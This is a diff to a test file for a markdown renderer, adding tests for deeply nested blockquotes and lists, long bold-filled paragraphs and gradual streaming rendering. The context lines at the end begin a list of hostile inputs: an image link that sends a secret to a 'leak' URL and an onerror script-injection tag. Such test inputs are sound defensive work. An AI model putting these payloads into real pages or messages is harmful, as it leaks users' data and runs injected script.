@@ -66,6 +66,33 @@ test("characters of HTML are shown as they were written", () => {
   expect(textOf(whole(text))).toBe(text.replaceAll("`", ""));
 });
 
+test.each([">", "1. ", "- > "])(
+  "%j thousands of times is shown, and what lies too deep as it is written",
+  (mark) => {
+    const shown = whole(`before\n\n${mark.repeat(3000)}end`);
+    expect(elements(shown).map(({ tag }) => tag)).toContain(mark === ">" ? "blockquote" : "li");
+    expect(textOf(shown)).toMatch(/^before.*end$/s);
+  },
+);
+
+test("a paragraph of any length has its bold words, and all of its text", () => {
+  const words = "some **bold** words ".repeat(1000);
+  const shown = whole(words);
+  expect(elements(shown).filter(({ tag }) => tag === "strong").length).toBeGreaterThan(990);
+  expect(textOf(shown).replaceAll("**", "") === words.replaceAll("**", "")).toBe(true);
+  expect(textOf(whole("!".repeat(60_001))) === "!".repeat(60_001)).toBe(true);
+});
+
+test("a long text that comes at once while it grows becomes elements piece by piece", () => {
+  const paragraphs = "some **bold** words\n\n".repeat(3000);
+  const grow = growingMarkdown();
+  const bold = () => elements(grow(paragraphs, false)).filter(({ tag }) => tag === "strong").length;
+  const counts = [bold(), bold(), bold(), bold(), bold()];
+  expect(counts).toEqual(counts.toSorted((a, b) => a - b));
+  expect(counts[0]).toBeLessThan(3000);
+  expect(counts[4]).toBe(3000);
+});
+
 const HOSTILE = [
   "![x](http://127.0.0.1:9/leak?q=SECRET)",
   '<img src=x onerror="window.pwned=1">',
